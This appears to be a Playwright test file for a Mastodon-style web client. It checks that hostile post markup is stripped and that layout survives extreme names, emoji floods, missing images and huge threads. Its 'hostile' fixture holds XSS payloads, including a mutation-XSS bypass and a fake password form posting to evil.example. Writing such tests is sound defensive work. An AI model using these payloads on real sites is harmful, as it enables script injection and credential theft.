// Posts that no honest person would write. What they say may be ugly; the page holds, and nothing of theirs ever runs.

import assert from "node:assert/strict"
import { after, before, test } from "node:test"
import type { Page } from "playwright-core"
import type { TestMember } from "@aviary/testkit"
import { screens, startWorld } from "./lib/world.ts"
import type { World } from "./lib/world.ts"
import { writePosts } from "./lib/write-posts.ts"

let world: World
let wren: TestMember
let original: Record<string, unknown>

before(async () => {
  world = await startWorld()
  wren = await world.aviary.member("wren")
  await wren.api.post("/api/v1/statuses", { status: "An honest post" })
  await wren.api.post("/api/v1/statuses", { status: "To be replaced" })
  await world.aviary.settle()
  original = (await wren.api.get("/api/v1/timelines/home")).body[0]
})
after(() => world.stop())

/** The first post of home with some of its fields replaced, as if the API had answered it. */
async function showing(page: Page, changes: Record<string, unknown>) {
  await page.route("**/api/v1/timelines/home*", async (route) => {
    const answer = await route.fetch()
    const [, ...others] = (await answer.json()) as unknown[]
    await route.fulfill({ response: answer, json: [{ ...original, ...changes }, ...others] })
  })
  await page.goto("/")
  await page.getByRole("article").nth(1).getByText("An honest post").waitFor()
}

const hostile = [
  "<p>before</p>",
  "<script>window.harmed = 'script'</script>",
  "<img src=x onerror=\"window.harmed = 'img'\">",
  "<svg onload=\"window.harmed = 'svg'\"><script>window.harmed = 'svg script'</script><a href='javascript:window.harmed=1'><text>s</text></a></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.harmed=1&gt;'></table></mtext></math>",
  "<style>body { display: none }</style><link rel=stylesheet href=//evil.example>",
  "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe><object data=//evil.example></object>",
  "<form action=//evil.example><input name=password autofocus><button>give</button></form>",
  "<p><a href=\"javascript:window.harmed = 'link'\">press</a> <a href='data:text/html,x'>data</a> <a href=' &#1;javascript:alert(1)'>hidden</a></p>",
  "<p><a href='https://honest.example/' onclick='window.harmed=1' style='position:fixed;inset:0' class='fixed inset-0' id=root target=_self>honest</a></p>",
  `${"<blockquote>".repeat(1_000)}<b>deep</b>${"</blockquote>".repeat(1_000)}`,
  "<p>after</p>",
].join("")

test("of hostile markup only the words are left", async () => {
  const { page, problems, end } = await world.visit({ as: wren, at: undefined })
  // What is parsed to be cleaned is inert; the browser tells all the same that it would not have let it run.
  problems.allow(/Executing inline event handler|Applying inline style/)
  await showing(page, { content: hostile })
  const text = page.getByRole("article").first().locator(".post-text")
  await text.getByText("after", { exact: true }).waitFor({ state: "attached" })
  const found = await text.evaluate((box) => {
    const all = [...box.querySelectorAll("*")]
    const depth = (element: Element): number =>
      element === box ? 0 : 1 + depth(element.parentElement ?? box)
    return {
      tags: [...new Set(all.map(({ localName }) => localName))].sort(),
      attributes: [...new Set(all.flatMap((element) => element.getAttributeNames()))].sort(),
      links: [...box.querySelectorAll("a")].map((link) => link.href),
      depth: Math.max(...all.map(depth)),
      words: box.textContent,
    }
  })
  assert.deepEqual(found.tags, ["a", "blockquote", "p"])
  assert.deepEqual(found.attributes, ["class", "dir", "href", "rel", "target", "title"])
  assert.deepEqual(found.links, ["https://honest.example/"])
  assert.ok(found.depth < 40, `${found.depth} elements deep`)
  assert.match(found.words, /before.*press.*deep.*after/s)
  await text.getByText("press").click({ force: true })
  assert.equal(await page.evaluate(() => (window as { harmed?: unknown }).harmed), undefined)
  await end()
})

const names = {
  "ten thousand letters": "W".repeat(10_000),
  "a word that turns the line about": `\u202e${"abc ".repeat(2_500)}`,
  "letters on top of each other": "z\u0351\u036b\u0343\u036a\u0302\u036b\u033d".repeat(1_250),
}

test("a name of 10,000 characters keeps to its line", async () => {
  for (const [kind, name] of Object.entries(names)) {
    const { page, end } = await world.visit({ as: wren, at: undefined, screen: screens.phone })
    const account = { ...(original.account as object), display_name: name }
    await showing(page, { account })
    const article = page.getByRole("article").first()
    const sizes = await article.evaluate((element) => {
      const time = element.querySelector("time")?.getBoundingClientRect()
      const others = document.querySelectorAll("article")[1]?.querySelector("time")?.getBoundingClientRect()
      return {
        page: document.documentElement.scrollWidth,
        time: { end: time?.right ?? Infinity, height: time?.height },
        lineHeight: others?.height,
        height: element.getBoundingClientRect().height,
      }
    })
    assert.equal(sizes.page, 390, `${kind}: the page scrolls sideways`)
    assert.ok(sizes.time.end < 350, `${kind}: the time is at ${sizes.time.end}`)
    assert.ok(sizes.height < 160, `${kind}: the post is ${sizes.height} px high`)
    await end()
  }
})

test("a picture that does not come says so in its place, and nothing moves", async () => {
  const { page, problems, end } = await world.visit({ as: wren, at: undefined })
  problems.allow(/404|ERR_FAILED/)
  const asked = Promise.withResolvers<() => Promise<void>>()
  await page.route("**/gone.png", (route) => asked.resolve(() => route.abort()))
  const picture = {
    id: "1",
    type: "image",
    url: `${world.url}/gone.png`,
    preview_url: `${world.url}/gone.png`,
    remote_url: null,
    meta: { original: { width: 800, height: 600 } },
    description: "A heron in the reeds",
    blurhash: "LEHV6nWB2yk8pyo0adR*.7kCMdnj",
  }
  await showing(page, { media_attachments: [picture] })
  const height = () =>
    page
      .getByRole("article")
      .first()
      .evaluate((post) => post.getBoundingClientRect().height)
  const before = await height()
  await (
    await asked.promise
  )()
  await page.getByText("A heron in the reeds").waitFor()
  assert.equal(await height(), before)
  await end()
})

test("a storm of emoji is folded and the list goes on", async () => {
  const { page, end } = await world.visit({ as: wren, at: undefined })
  await page.route("**/storm.png", (route) =>
    route.fulfill({
      contentType: "image/svg+xml",
      body: '<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16"/>',
    }),
  )
  const emoji = { shortcode: "storm", url: `${world.url}/storm.png`, static_url: `${world.url}/storm.png` }
  await showing(page, {
    content: `<p>${":storm: ".repeat(1_000)}${"🌊🐟👩🏽‍🚀".repeat(1_000)}</p>`,
    emojis: [{ ...emoji, visible_in_picker: true, category: null }],
  })
  const first = page.getByRole("article").first()
  await first.getByRole("button", { name: "Show more" }).waitFor()
  const height = await first.evaluate((post) => post.getBoundingClientRect().height)
  assert.ok(height < 620, `the post is ${height} px high`)
  await end()
})

const REPLIES = 2_000

test("a thread of 2,000 replies opens, scrolls to its last, and few of them are in the page at a time", async () => {
  const { body: root } = await wren.api.post("/api/v1/statuses", { status: "Name a bird" })
  await writePosts(
    world.aviary,
    Array.from({ length: REPLIES }, (_, n) => ({ by: wren, text: `Reply number ${n}` })),
    { inReplyTo: { id: String(root.id), by: wren } },
  )
  const { page, end } = await world.visit({ as: wren, at: `/@wren/${root.id}`, screen: screens.phone })
  await page.getByText("Reply number 0", { exact: true }).waitFor()
  const last = page.getByText(`Reply number ${REPLIES - 1}`, { exact: true })
  for (let step = 0; step < 40 && !(await last.isVisible()); step += 1) {
    await page.keyboard.press("End")
    await page.evaluate(() => new Promise(requestAnimationFrame))
    assert.ok((await page.getByRole("article").count()) < 60)
  }
  await last.waitFor()
  await page.keyboard.press("Home")
  await page.getByText("Name a bird").waitFor()
  await end()
})
